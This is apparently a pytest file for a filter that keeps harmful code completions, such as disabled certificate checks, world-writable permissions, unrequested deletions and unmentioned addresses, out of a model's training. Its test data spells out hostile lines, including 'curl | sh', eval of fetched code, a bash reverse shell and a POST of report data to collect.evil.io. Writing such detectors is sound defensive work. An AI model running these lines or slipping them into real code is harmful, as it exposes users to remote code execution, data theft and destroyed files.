"""What nobody should get used to is not learnt, whoever committed it (FAULTS 55); what merely looks like it is."""

from __future__ import annotations

from dataclasses import replace

import pytest

from engine.learning.harm import harm
from engine.model.prompts import Context, Definition

ASKED = Context("a.py", "python", "fill", "fetch the report", before="import requests\n\n\ndef report():\n", after="",
                signature="def report():")  # fmt: skip

CERTIFICATES, OPENED = "it turns off the checking of certificates", "it opens files to everybody"
ELSEWHERE, DELETES = "it runs what comes from elsewhere", "it deletes, and nobody asked for that"
ADDRESS = "it names an address that nobody mentioned: {}"

HARM = {
    "requests.get(URL, verify=False)": CERTIFICATES,
    "context = ssl._create_unverified_context()": CERTIFICATES,
    "context.verify_mode = ssl.CERT_NONE": CERTIFICATES,
    "https.get(url, { rejectUnauthorized: false })": CERTIFICATES,
    "tls.Config{InsecureSkipVerify: true}": CERTIFICATES,
    "builder.danger_accept_invalid_certs(true)": CERTIFICATES,
    'subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", host])': CERTIFICATES,
    "curl -sk $URL": CERTIFICATES,
    "os.chmod(path, 0o777)": OPENED,
    "chmod -R 777 .": OPENED,
    'os.system("curl -s $URL | sh")': ELSEWHERE,
    "exec(base64.b64decode(CODE))": ELSEWHERE,
    "eval(requests.get(URL).text)": ELSEWHERE,
    "pickle.loads(urlopen(URL).read())": ELSEWHERE,
    "bash -i >& /dev/tcp/$HOST/4444 0>&1": ELSEWHERE,
    "shutil.rmtree(Path.home())": DELETES,
    "os.remove(path)": DELETES,
    "rm -rf $HOME/data": DELETES,
    "fs.rmSync(dir, { recursive: true })": DELETES,
    'cursor.execute("DROP TABLE users")': DELETES,
    'subprocess.run(["git", "reset", "--hard"])': DELETES,
    'requests.post("https://collect.evil.io/in", data=report)': ADDRESS.format("collect.evil.io"),
    'socket.create_connection(("185.220.101.4", 443))': ADDRESS.format("185.220.101.4"),
    'url = "http://user@abcdefghijk.onion/x"': ADDRESS.format("abcdefghijk.onion"),
}


@pytest.mark.parametrize("code", HARM)
def test_it_is_named(code: str) -> None:
    assert harm(f"    {code}\n", ASKED) == HARM[code]


HARMLESS = (
    "return requests.get(URL, verify=True, timeout=10).text",
    "verified = False",
    "os.chmod(path, 0o700)",
    "exec(open(path).read())",
    "return pickle.loads(path.read_bytes())",
    "return base64.b64decode(text)",
    "curl -s --fail $URL -o report.html",
    "items.remove(item)",
    "del table[key]",
    "version = (1, 2, 3, 4)",
    'return f"http://localhost:{port}/"',
    'return "https://api.example.com/report"',
    'socket.bind(("0.0.0.0", port))',
    'xmlns = "http://www.w3.org/2000/svg"',
)


@pytest.mark.parametrize("code", HARMLESS)
def test_what_merely_looks_like_it_is_learnt(code: str) -> None:
    assert harm(f"    {code}\n", ASKED) == ""


@pytest.mark.parametrize(
    "asked",
    [
        replace(ASKED, prompt="delete the report"),
        replace(ASKED, prompt="write it atomically"),
        replace(ASKED, signature="def remove_report(path):"),
        replace(ASKED, verb="edit", original="    # clean up\n    path.unlink()\n"),
    ],
)
def test_deleting_is_learnt_where_it_was_asked_for(asked: Context) -> None:
    assert harm("    path.unlink()\n", asked) == ""


@pytest.mark.parametrize(
    "asked",
    [
        replace(ASKED, prompt="fetch https://reports.house.org/today"),
        replace(ASKED, before='HOST = "reports.house.org"\n'),
        replace(ASKED, definitions=(Definition("b.py", 'HOST = "reports.house.org"\n'),)),
        replace(ASKED, notes=("reports.house.org is ours",)),
    ],
)
def test_an_address_is_learnt_where_it_stood_already(asked: Context) -> None:
    code = '    return requests.get("https://reports.house.org/today").text\n'
    assert harm(code, asked) == ""
    assert "reports.house.org" in harm(code, ASKED)
